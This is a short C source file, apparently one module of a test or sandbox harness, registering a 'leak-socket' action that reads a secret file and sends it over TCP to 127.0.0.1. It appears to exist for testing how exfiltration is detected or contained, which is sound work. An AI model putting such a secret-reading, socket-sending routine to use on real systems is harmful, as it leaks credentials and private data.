/* SPDX-License-Identifier: MIT */
/* act_leak_socket.c - read the secret file and send it to a TCP listener. */
#include "hostile.h"

static void strike(const hostile_strike *s)
{
    char secret[256];
    if (hostile_read_secret(s, secret, sizeof secret) == 0)
        hostile_send_tcp(s, secret);
}

HOSTILE_ACT("leak-socket", "reads a secret file and sends it to 127.0.0.1 over TCP", strike,
            NULL, NULL);
